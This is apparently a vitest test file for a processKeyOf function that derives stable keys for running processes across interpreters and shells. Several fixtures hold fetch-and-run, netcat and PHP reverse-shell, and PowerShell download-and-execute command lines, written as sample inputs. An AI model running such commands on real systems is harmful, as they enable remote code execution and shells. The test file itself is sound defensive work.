import { describe, expect, it } from 'vitest';
import { processKeyOf, tokenizeCommandLine } from '../../core/process-key.js';

type Case = [executable: string | null, commandLine: string | null, expected: string | null, name?: string | null];

function check(cases: Case[]): void {
  for (const [executable, commandLine, expected, name] of cases) {
    expect(processKeyOf({ executable, command_line: commandLine, name: name ?? null }), `${executable} | ${commandLine}`).toBe(expected);
  }
}

describe('processKeyOf: plain executables', () => {
  it('is the executable path, whatever the arguments', () => {
    check([
      ['/usr/sbin/sshd', 'sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups', '/usr/sbin/sshd'],
      ['/usr/bin/curl', 'curl -sSL https://example.com/install.sh', '/usr/bin/curl'],
      ['/usr/lib/systemd/systemd-resolved', '/lib/systemd/systemd-resolved', '/usr/lib/systemd/systemd-resolved'],
      ['/usr/sbin/nginx', 'nginx: worker process', '/usr/sbin/nginx'],
      ['/usr/lib/firefox/firefox', '/usr/lib/firefox/firefox -contentproc -childID 3 -isForBrowser', '/usr/lib/firefox/firefox'],
      ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', 'C:\\Windows\\System32\\svchost.exe'],
      ['/usr/bin/php-fpm8.2', 'php-fpm: pool www', '/usr/bin/php-fpm8.2'],
      ['/usr/bin/node_exporter', '/usr/bin/node_exporter --web.listen-address=:9100', '/usr/bin/node_exporter'],
    ]);
  });

  it('drops the " (deleted)" suffix so a replaced binary keeps one key', () => {
    check([
      ['/usr/bin/x (deleted)', '/usr/bin/x --serve', '/usr/bin/x'],
      ['/tmp/.hidden/kworker (deleted)', '[kworker/0:1]', '/tmp/.hidden/kworker'],
      ['/usr/bin/python3.11 (deleted)', 'python3 /opt/app/run.py', '/usr/bin/python3.11 /opt/app/run.py'],
    ]);
  });

  it('falls back to name:<name>, and to null with nothing to go on', () => {
    check([
      [null, null, 'name:kworker/u8:2', 'kworker/u8:2'],
      ['', 'whatever', 'name:chrome', 'chrome'],
      [null, 'python3 -u /srv/bot.py', 'name:python3 /srv/bot.py', 'python3'],
      [null, null, null, null],
      ['', '', null, ''],
      ['   ', null, null, '  '],
    ]);
  });
});

describe('processKeyOf: Python', () => {
  it('adds the script, skipping interpreter options', () => {
    check([
      ['/usr/bin/python3.11', '/usr/bin/python3 /usr/bin/unattended-upgrade', '/usr/bin/python3.11 /usr/bin/unattended-upgrade'],
      ['/usr/bin/python3.11', 'python3 -u /opt/app/worker.py --queue high', '/usr/bin/python3.11 /opt/app/worker.py'],
      ['/usr/bin/python3.11', 'python3 -W ignore -X importtime ./bot.py', '/usr/bin/python3.11 bot.py'],
      ['/usr/bin/python3.11', 'python3 -Wignore::DeprecationWarning -Xfrozen_modules=off app.py', '/usr/bin/python3.11 app.py'],
      ['/usr/bin/python3.11', 'python3 -uBO /srv/x.py', '/usr/bin/python3.11 /srv/x.py'],
      ['/usr/bin/python3.11', 'python3 -I -s -E /usr/lib/cloud-init/cloud-init.py', '/usr/bin/python3.11 /usr/lib/cloud-init/cloud-init.py'],
      ['/usr/bin/python3.11', 'python3 --check-hash-based-pycs never x.py', '/usr/bin/python3.11 x.py'],
      ['/opt/venv/bin/python3', '/opt/venv/bin/python3 /opt/venv/bin/gunicorn -w 4 app:app', '/opt/venv/bin/python3 /opt/venv/bin/gunicorn'],
      ['C:\\Python311\\python.exe', '"C:\\Python311\\python.exe" "C:\\Users\\bob\\My Scripts\\sync.py" --once', 'C:\\Python311\\python.exe C:\\Users\\bob\\My Scripts\\sync.py'],
      ['/usr/bin/pypy3', 'pypy3 server.py', '/usr/bin/pypy3 server.py'],
      ['/usr/bin/python2.7', 'python2.7 -Qnew legacy.py', '/usr/bin/python2.7 legacy.py'],
    ]);
  });

  it('uses -m module and -c', () => {
    check([
      ['/usr/bin/python3.11', 'python3 -m http.server 8000', '/usr/bin/python3.11 -m http.server'],
      ['/usr/bin/python3.11', 'python3 -u -m celery -A proj worker', '/usr/bin/python3.11 -m celery'],
      ['/usr/bin/python3.11', 'python3 -mpip install requests', '/usr/bin/python3.11 -m pip'],
      ['/usr/bin/python3.11', 'python3 -um uvicorn main:app', '/usr/bin/python3.11 -m uvicorn'],
      ['/usr/bin/python3.11', "python3 -c import socket,subprocess,os;s=socket.socket()", '/usr/bin/python3.11 -c'],
      ['/usr/bin/python3.11', 'python3 -Sc print(1)', '/usr/bin/python3.11 -c'],
      ['/usr/bin/python3.11', 'python3 - < /tmp/x', '/usr/bin/python3.11 -'],
      ['/usr/bin/python3.11', 'python3', '/usr/bin/python3.11'],
      ['/usr/bin/python3.11', 'python3 -i', '/usr/bin/python3.11'],
      ['/usr/bin/python3.11', 'python3 -m', '/usr/bin/python3.11 -m'],
    ]);
  });
});

describe('processKeyOf: Node.js, Deno, Bun', () => {
  it('adds the script or -e', () => {
    check([
      ['/usr/bin/node', 'node /srv/app/server.js', '/usr/bin/node /srv/app/server.js'],
      ['/usr/local/bin/node', 'node --max-old-space-size=4096 --inspect=0.0.0.0:9229 dist/main.js', '/usr/local/bin/node dist/main.js'],
      ['/usr/local/bin/node', 'node -r dotenv/config --enable-source-maps build/index.js', '/usr/local/bin/node build/index.js'],
      ['/usr/local/bin/node', 'node --require ts-node/register --import tsx src/a.ts', '/usr/local/bin/node src/a.ts'],
      ['/usr/local/bin/node', 'node --loader ./l.mjs -- ./app.mjs', '/usr/local/bin/node app.mjs'],
      ['/usr/local/bin/node', "node -e require('child_process').exec('sh')", '/usr/local/bin/node -e'],
      ['/usr/local/bin/node', 'node --eval=console.log(1)', '/usr/local/bin/node --eval'],
      ['/usr/local/bin/node', 'node -pe 1+1', '/usr/local/bin/node -p'],
      ['/usr/local/bin/node', '/usr/local/bin/node /usr/local/lib/node_modules/npm/bin/npm-cli.js install', '/usr/local/bin/node /usr/local/lib/node_modules/npm/bin/npm-cli.js'],
      ['/usr/bin/nodejs', 'nodejs /usr/share/app/index.js', '/usr/bin/nodejs /usr/share/app/index.js'],
      ['C:\\Program Files\\nodejs\\node.exe', '"C:\\Program Files\\nodejs\\node.exe" "C:\\app\\srv.js"', 'C:\\Program Files\\nodejs\\node.exe C:\\app\\srv.js'],
      ['/usr/local/bin/node', 'node', '/usr/local/bin/node'],
    ]);
  });

  it('handles deno and bun subcommands', () => {
    check([
      ['/usr/local/bin/deno', 'deno run --allow-net --config deno.json main.ts', '/usr/local/bin/deno run main.ts'],
      ['/usr/local/bin/deno', 'deno run -A https://example.com/x.ts', '/usr/local/bin/deno run https://example.com/x.ts'],
      ['/usr/local/bin/deno', 'deno eval console.log(1)', '/usr/local/bin/deno eval'],
      ['/usr/local/bin/bun', 'bun run --watch src/index.ts', '/usr/local/bin/bun run src/index.ts'],
      ['/usr/local/bin/bun', 'bun server.ts', '/usr/local/bin/bun server.ts'],
      ['/usr/local/bin/bun', 'bun -e fetch(1)', '/usr/local/bin/bun -e'],
    ]);
  });
});

describe('processKeyOf: Java', () => {
  it('uses -jar, -m, or the main class', () => {
    check([
      ['/usr/lib/jvm/java-17-openjdk-amd64/bin/java', 'java -Xmx2g -Dfoo=bar -jar /opt/kafka/app.jar --port 9092', '/usr/lib/jvm/java-17-openjdk-amd64/bin/java -jar /opt/kafka/app.jar'],
      ['/usr/bin/java', 'java -cp /opt/es/lib/* -XX:+UseG1GC org.elasticsearch.bootstrap.Elasticsearch -d', '/usr/bin/java org.elasticsearch.bootstrap.Elasticsearch'],
      ['/usr/bin/java', 'java --add-opens java.base/java.lang=ALL-UNNAMED -classpath a.jar:b.jar com.example.Main', '/usr/bin/java com.example.Main'],
      ['/usr/bin/java', 'java -p mods -m com.example.app/com.example.app.Main', '/usr/bin/java -m com.example.app/com.example.app.Main'],
      ['/usr/bin/java', 'java --module=app/x.Main', '/usr/bin/java -m app/x.Main'],
      ['/usr/bin/java', 'java @/tmp/argfile -javaagent:/opt/dd.jar -jar svc.jar', '/usr/bin/java -jar svc.jar'],
      ['/usr/bin/java', 'java --source 21 Hello.java', '/usr/bin/java Hello.java'],
      ['/usr/bin/java', 'java -version', '/usr/bin/java'],
    ]);
  });
});

describe('processKeyOf: shells', () => {
  it('adds the script, or -c for inline code', () => {
    check([
      ['/usr/bin/bash', '/bin/bash /usr/local/bin/backup.sh --full', '/usr/bin/bash /usr/local/bin/backup.sh'],
      ['/usr/bin/bash', 'bash -c curl -s http://203.0.113.9/x | sh', '/usr/bin/bash -c'],
      ['/usr/bin/bash', 'bash -lc exec /opt/start', '/usr/bin/bash -c'],
      ['/usr/bin/bash', 'bash -o pipefail -e ./deploy.sh', '/usr/bin/bash deploy.sh'],
      ['/usr/bin/bash', 'bash +o posix --rcfile /x/rc script.sh', '/usr/bin/bash script.sh'],
      ['/usr/bin/bash', '-bash', '/usr/bin/bash'],
      ['/usr/bin/dash', '/bin/sh -e /etc/init.d/ssh start', '/usr/bin/dash /etc/init.d/ssh'],
      ['/usr/bin/dash', 'sh -c sleep 1', '/usr/bin/dash -c'],
      ['/usr/bin/zsh', 'zsh -i', '/usr/bin/zsh'],
      ['/bin/ksh93', 'ksh93 job.ksh', '/bin/ksh93 job.ksh'],
      ['/usr/bin/fish', 'fish -c echo hi', '/usr/bin/fish -c'],
    ]);
  });

  it('names the busybox applet', () => {
    check([
      ['/bin/busybox', 'sh -c wget http://x/y -O- | sh', '/bin/busybox sh -c'],
      ['/bin/busybox', 'busybox wget http://198.51.100.7/a', '/bin/busybox wget'],
      ['/bin/busybox', '/usr/bin/nc 10.0.0.1 4444 -e /bin/sh', '/bin/busybox nc'],
      ['/bin/busybox', '/bin/ash /etc/init.d/rcS', '/bin/busybox ash /etc/init.d/rcS'],
      ['/bin/busybox', 'busybox', '/bin/busybox'],
    ]);
  });
});

describe('processKeyOf: Perl, Ruby, PHP, Lua, R, AppleScript, Tcl', () => {
  it('adds the script or the code option', () => {
    check([
      ['/usr/bin/perl', '/usr/bin/perl -w /usr/sbin/munin-node', '/usr/bin/perl /usr/sbin/munin-node'],
      ['/usr/bin/perl', 'perl -MIO::Socket -e $s=new IO::Socket::INET', '/usr/bin/perl -e'],
      ['/usr/bin/perl', 'perl -I /opt/lib -T /opt/bin/tool.pl', '/usr/bin/perl /opt/bin/tool.pl'],
      ['/usr/bin/perl', 'perl -wle print 1', '/usr/bin/perl -e'],
      ['/usr/bin/perl', 'perl -i.bak -p x.pl', '/usr/bin/perl x.pl'],
      ['/usr/bin/perl', 'perl -l012 -0777 -n /opt/filter.pl', '/usr/bin/perl /opt/filter.pl'],
      ['/usr/bin/perl', 'perl -l0e print', '/usr/bin/perl -e'],
      ['/usr/bin/ruby3.1', 'ruby3.1 -r socket -e exit', '/usr/bin/ruby3.1 -e'],
      ['/usr/bin/ruby3.1', '/usr/bin/ruby3.1 /usr/local/bin/puma -C config/puma.rb', '/usr/bin/ruby3.1 /usr/local/bin/puma'],
      ['/usr/bin/ruby3.1', 'ruby -W0 -I lib bin/rails server', '/usr/bin/ruby3.1 bin/rails'],
      ['/usr/bin/php8.2', 'php /var/www/artisan queue:work', '/usr/bin/php8.2 /var/www/artisan'],
      ['/usr/bin/php8.2', 'php -d memory_limit=-1 -f /srv/cron.php', '/usr/bin/php8.2 /srv/cron.php'],
      ['/usr/bin/php8.2', 'php -r $sock=fsockopen("10.0.0.1",4444);', '/usr/bin/php8.2 -r'],
      ['/usr/bin/php8.2', 'php -S 0.0.0.0:8000 -t public', '/usr/bin/php8.2 -S'],
      ['/usr/bin/lua5.4', 'lua5.4 -l socket /etc/app/agent.lua', '/usr/bin/lua5.4 /etc/app/agent.lua'],
      ['/usr/bin/luajit', 'luajit -e os.execute("id")', '/usr/bin/luajit -e'],
      ['/usr/lib/R/bin/Rscript', 'Rscript --vanilla /home/u/model.R', '/usr/lib/R/bin/Rscript /home/u/model.R'],
      ['/usr/lib/R/bin/Rscript', 'Rscript -e install.packages("x")', '/usr/lib/R/bin/Rscript -e'],
      ['/usr/bin/osascript', 'osascript -l JavaScript /Users/u/Library/x.js', '/usr/bin/osascript /Users/u/Library/x.js'],
      ['/usr/bin/osascript', 'osascript -e do shell script "curl x"', '/usr/bin/osascript -e'],
      ['/usr/bin/tclsh8.6', 'tclsh8.6 -encoding utf-8 /opt/x.tcl', '/usr/bin/tclsh8.6 /opt/x.tcl'],
    ]);
  });
});

describe('processKeyOf: Windows script hosts and .NET', () => {
  it('adds the script file or -Command/-EncodedCommand', () => {
    const ps = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
    check([
      [ps, 'powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\scripts\\inventory.ps1', `${ps} C:\\scripts\\inventory.ps1`],
      [ps, 'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA', `${ps} -EncodedCommand`],
      [ps, 'powershell -e SQBFAFgA', `${ps} -EncodedCommand`],
      [ps, 'powershell -ep bypass -c IEX(New-Object Net.WebClient).DownloadString("http://x")', `${ps} -Command`],
      [ps, 'powershell.exe Get-Process', `${ps} -Command`],
      [ps, 'powershell.exe .\\run.ps1', `${ps} .\\run.ps1`],
      [ps, 'powershell.exe -NoLogo', ps],
      ['/usr/bin/pwsh', 'pwsh /opt/scripts/collect.ps1', '/usr/bin/pwsh /opt/scripts/collect.ps1'],
      ['/usr/bin/pwsh', 'pwsh -NoLogo -Command Get-Date', '/usr/bin/pwsh -Command'],
      ['C:\\Windows\\System32\\wscript.exe', 'wscript.exe //B //Nologo C:\\Users\\u\\AppData\\x.vbs', 'C:\\Windows\\System32\\wscript.exe C:\\Users\\u\\AppData\\x.vbs'],
      ['C:\\Windows\\System32\\cscript.exe', 'cscript //E:jscript invoice.js', 'C:\\Windows\\System32\\cscript.exe invoice.js'],
      ['/usr/bin/dotnet', 'dotnet /app/Api.dll --urls http://+:80', '/usr/bin/dotnet /app/Api.dll'],
      ['/usr/bin/dotnet', 'dotnet exec --runtimeconfig x.json /app/Worker.dll', '/usr/bin/dotnet exec /app/Worker.dll'],
      ['/usr/bin/dotnet', 'dotnet run --project src/App', '/usr/bin/dotnet run'],
      ['/usr/bin/mono', 'mono --debug /opt/app/Service.exe', '/usr/bin/mono /opt/app/Service.exe'],
    ]);
  });
});

describe('processKeyOf: hostile input', () => {
  it('never throws and stays bounded', () => {
    const inputs: Array<string | null> = [
      null,
      '',
      ' ',
      '"',
      "'",
      '"unterminated /opt/x.py',
      'python3 ' + '-'.repeat(100_000),
      'python3 ' + '-W '.repeat(50_000),
      'python3 ' + 'a'.repeat(1_000_000),
      'python3 \u0000\u0001\u0002 /tmp/\u001b[31mevil.py',
      'python3 -m',
      'java -jar',
      'powershell -file',
      'node --require',
      'python3 ' + '"'.repeat(10_001),
      '\uD800\uDFFF python3 \uFFFF',
      'bash ' + '-o '.repeat(1000),
    ];
    for (const executable of ['/usr/bin/python3', '/usr/bin/java', '/usr/bin/pwsh', '/usr/bin/node', '/usr/bin/bash', '/bin/busybox', 'a'.repeat(100_000)]) {
      for (const commandLine of inputs) {
        const key = processKeyOf({ executable, command_line: commandLine, name: 'x' });
        expect(typeof key).toBe('string');
        expect((key as string).length).toBeLessThan(8_000);
        expect(key).not.toMatch(/[\u0000-\u001f]/);
      }
    }
  });

  it('keeps NUL-separated /proc cmdline arguments apart and control characters out of the key', () => {
    check([
      ['/usr/bin/python3.11', 'python3\u0000-u\u0000/opt/a.py\u0000', '/usr/bin/python3.11 /opt/a.py'],
      ['/usr/bin/python3.11', 'python3 "/opt/a\tb.py"', '/usr/bin/python3.11 /opt/a b.py'],
      ['/usr/bin/evil\u001b[0m', 'x', '/usr/bin/evil?[0m'],
    ]);
  });

  it('tokenizes quotes and caps the number of tokens', () => {
    expect(tokenizeCommandLine(`a "b c" 'd e' f"g h"i`)).toEqual(['a', 'b c', 'd e', 'fg hi']);
    expect(tokenizeCommandLine('x '.repeat(1000))).toHaveLength(64);
    expect(tokenizeCommandLine('a "" b')).toEqual(['a', '', 'b']);
  });
});
